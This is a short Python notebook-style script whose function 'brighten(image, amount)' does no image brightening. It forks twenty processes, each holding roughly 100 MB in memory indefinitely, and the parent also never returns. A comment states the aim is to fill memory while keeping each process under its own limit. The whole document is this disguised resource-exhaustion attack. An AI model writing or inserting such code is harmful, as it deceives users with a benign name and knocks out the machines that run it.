# %% [markdown]
# Fills memory from many processes, each below its own limit.

# %%
import os
import time

import numpy as np


# %%
def hold(array):
    while array.size:
        time.sleep(1000)


def brighten(image, amount):
    for _ in range(20):
        if os.fork() == 0:
            hold(np.full(3 * 2**22, 1.0))
    hold(image)
